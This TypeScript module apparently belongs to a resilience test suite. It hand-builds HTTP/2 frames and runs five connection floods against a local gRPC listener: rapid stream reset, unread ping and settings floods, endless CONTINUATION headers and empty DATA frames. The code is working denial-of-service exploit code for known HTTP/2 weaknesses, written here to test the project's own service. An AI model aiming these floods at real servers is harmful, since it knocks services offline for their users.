// HTTP/2, frame by frame, against gRPC's listener: what costs the client a few bytes each.
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from './attack.ts';

const types = { data: 0, headers: 1, resetStream: 3, settings: 4, ping: 6, continuation: 9 } as const;
const endHeaders = 4;

function frame(type: keyof typeof types, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = types[type];
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A field of HPACK that enters no table; its name by the place in the static table, below 15 in one byte. */
const field = (name: readonly number[], value: string): Buffer =>
  Buffer.from([...name, value.length, ...Buffer.from(value)]);

const callHead = Buffer.concat([
  // POST, http.
  Buffer.from([0x83, 0x86]),
  field([0x04], '/logproto.Pusher/Push'),
  field([0x0f, 0x10], 'application/grpc'),
  field([0x01], '127.0.0.1'),
]);

const opening = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame('settings', 0, 0, Buffer.alloc(0)),
]);

/** Frames of one write. */
const framesAtOnce = 200;
const connections = 20;
const streamMax = 2 ** 31 - 1;

/** Opens connections, each of which writes as fast as it is read, and is opened again when it is closed. */
function flood(name: string, burst: (firstStream: number) => Buffer, isRead = true): Attack {
  return {
    name,
    environment: (port) => ({ SKALD_GRPC_LISTEN_PORT: String(port) }),
    run: async ({ fromAddress, sidePort }, signal) => {
      const lane = async (): Promise<void> => {
        while (!signal.aborted) {
          const socket = connect({ host: '127.0.0.1', port: sidePort, localAddress: fromAddress });
          socket.on('error', () => {});
          const closed = new Promise((resolve) => socket.once('close', resolve));
          if (isRead) socket.resume();
          const end = (): Socket => socket.destroy();
          signal.addEventListener('abort', end);
          socket.write(opening);
          for (let stream = 1; !socket.destroyed && stream < streamMax; stream += 2 * framesAtOnce) {
            if (socket.write(burst(stream))) continue;
            await Promise.race([closed, new Promise((resolve) => socket.once('drain', resolve))]);
          }
          signal.removeEventListener('abort', end);
          await delay(5);
        }
      };
      await Promise.all(Array.from({ length: connections }, lane));
    },
  };
}

const many = (make: (at: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: framesAtOnce }, (_, at) => make(at)));

const pings = many(() => frame('ping', 0, 0, Buffer.alloc(8)));
const settings = many(() => frame('settings', 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])));
const continued = many(() => frame('continuation', 0, 1, field([0x00, 1, 0x61], 'b'.repeat(100))));
const dataFrames = many(() => frame('data', 0, 1, Buffer.alloc(0)));

export const http2Attacks: readonly Attack[] = [
  flood('HTTP/2 streams that are reset at once', (first) =>
    many((at) =>
      Buffer.concat([
        frame('headers', endHeaders, first + 2 * at, callHead),
        frame('resetStream', 0, first + 2 * at, Buffer.from([0, 0, 0, 8])),
      ]),
    ),
  ),
  flood('HTTP/2 pings, answers unread', () => pings, false),
  flood('HTTP/2 settings, answers unread', () => settings, false),
  flood('HTTP/2 head without end', (first) =>
    first === 1 ? Buffer.concat([frame('headers', 0, 1, callHead), continued]) : continued,
  ),
  flood('HTTP/2 empty frames of data', (first) =>
    first === 1 ? Buffer.concat([frame('headers', endHeaders, 1, callHead), dataFrames]) : dataFrames,
  ),
];
